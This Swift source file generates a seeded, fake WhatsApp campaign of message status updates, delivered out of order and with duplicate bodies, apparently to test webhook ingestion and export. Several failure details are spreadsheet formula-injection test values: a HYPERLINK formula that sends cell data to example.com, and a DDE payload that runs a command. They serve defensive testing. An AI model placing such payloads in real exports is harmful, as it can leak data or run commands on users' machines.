import CryptoBridge

/// A made-up campaign: the same each time, so that a second run brings nothing new.
struct DemoCampaign: Sendable {
    /// Updates in the order in which Meta would report them, each once.
    let updates: [MetaBody.Update]
    /// Bodies to post, copies and disorder included.
    let posts: [[MetaBody.Update]]

    /// Updates by status, each once; `failed` under its name in the journal.
    var counts: [String: Int] {
        var counts: [String: Int] = [:]
        for update in updates {
            counts[update.status == "failed" ? "rejected" : update.status, default: 0] += 1
        }
        return counts
    }

    /// How many updates the posts hold, copies included.
    var sentCount: Int { posts.reduce(0) { $0 + $1.count } }

    /// Makes a campaign.
    init(recipients: Int = 2400, seed: UInt64 = 20_260_302) {
        var random = SeededRandom(seed: seed)
        var updates: [MetaBody.Update] = []
        for index in 0..<recipients {
            updates += Self.updates(of: index, &random)
        }
        self.updates = updates
        posts = Self.posts(updates, &random)
    }

    // MARK: One recipient

    // 2 March 2026, 14:00 UTC.
    private static let start: Int64 = 1_772_460_000

    private static let prefixes = [
        "57300", "57310", "52155", "54911", "5511987", "34612", "3161", "4915", "447400", "1650555",
        "91983", "6281",
    ]

    private static let failures = [
        MetaBody.Failure(
            code: 131_026,
            title: "Message undeliverable",
            details: "Message Undeliverable."
        ),
        MetaBody.Failure(
            code: 131_049,
            title: "This message was not delivered to maintain healthy ecosystem engagement.",
            details:
                "In order to maintain a healthy ecosystem engagement, the message failed to be "
                + "delivered."
        ),
        MetaBody.Failure(
            code: 131_047,
            title: "Re-engagement message",
            details: "Message failed to send because more than 24 hours have passed since the "
                + "customer last replied to this number."
        ),
        MetaBody.Failure(
            code: 132_015,
            title: "Template is Paused",
            details: "The template is paused due to low quality."
        ),
        MetaBody.Failure(
            code: 131_053,
            title: "Media upload error",
            details: "Unable to upload \"spring, 50 %.png\";\nunknown type"
        ),
        // What a spreadsheet would compute if it were let.
        MetaBody.Failure(
            code: 131_000,
            title: "Something went wrong",
            details: "=HYPERLINK(\"https://example.com/?x=\"&A1,\"open\")"
        ),
        MetaBody.Failure(code: 131_000, title: "Something went wrong", details: "@SUM(1+9)*cmd"),
        MetaBody.Failure(
            code: 131_000,
            title: "Something went wrong",
            details: "-2+3+cmd|' /C calc'!A0"
        ),
    ]

    private static func updates(
        of index: Int,
        _ random: inout SeededRandom
    ) -> [MetaBody.Update] {
        let prefix = prefixes[index % prefixes.count]
        let rest = String(Int.random(in: 1_000_000..<10_000_000, using: &random))
        let number = String((prefix + rest).prefix(13))
        // Every 200th user hides the number: only an id is known, and no SMS could be sent.
        let isHidden = index % 200 == 199
        let sent = start + Int64(index / 40) + Int64.random(in: 0...2, using: &random)
        var update = MetaBody.Update(
            id: MetaBody.messageID(to: number, seed: String(index)),
            status: "sent",
            seconds: sent,
            to: isHidden ? nil : number,
            userID: isHidden ? "US.1349120865530274\(1000 + index)" : nil,
            failure: nil,
            campaign: "spring-sale"
        )
        if Int.random(in: 0..<100, using: &random) < 8 {
            update.status = "failed"
            update.failure = failures[weighted(&random)]
            return [update]
        }
        var updates = [update]
        let isDelivered = Int.random(in: 0..<100, using: &random) < 95
        let isRead = Int.random(in: 0..<100, using: &random) < 62
        if isDelivered {
            update.status = "delivered"
            update.seconds += Int64.random(in: 1...90, using: &random)
            updates.append(update)
        }
        if isDelivered, isRead {
            update.status = "read"
            update.seconds += Int64.random(in: 5...7200, using: &random)
            updates.append(update)
        }
        return updates
    }

    private static func weighted(_ random: inout SeededRandom) -> Int {
        let draw = Int.random(in: 0..<100, using: &random)
        return draw < 60 ? 0 : draw < 75 ? 1 : draw < 83 ? 2 : min(failures.count - 1, 3 + draw % 5)
    }

    // MARK: Bodies

    /// One body of 1000, batches of all sizes, the rest one by one; some bodies twice, some cut anew,
    /// and not in order.
    private static func posts(
        _ updates: [MetaBody.Update],
        _ random: inout SeededRandom
    ) -> [[MetaBody.Update]] {
        // Neighbours change places: read before delivered, delivered before sent.
        var disordered = updates
        for index in stride(from: 0, to: disordered.count - 8, by: 3) {
            disordered.swapAt(index, index + Int.random(in: 0..<8, using: &random))
        }
        var posts = [Array(disordered.prefix(1000))]
        var rest = disordered.dropFirst(1000)
        while !rest.isEmpty {
            let draw = Int.random(in: 0..<100, using: &random)
            let size = draw < 85 ? 1 : Int.random(in: 2...40, using: &random)
            posts.append(Array(rest.prefix(size)))
            rest = rest.dropFirst(size)
        }
        let copies = posts.filter { _ in Int.random(in: 0..<100, using: &random) < 10 }
        let recut = stride(from: 0, to: updates.count - 30, by: 311)
            .map { Array(updates[$0..<($0 + 25)]) }
        return (posts + copies + recut).shuffled(using: &random)
    }
}
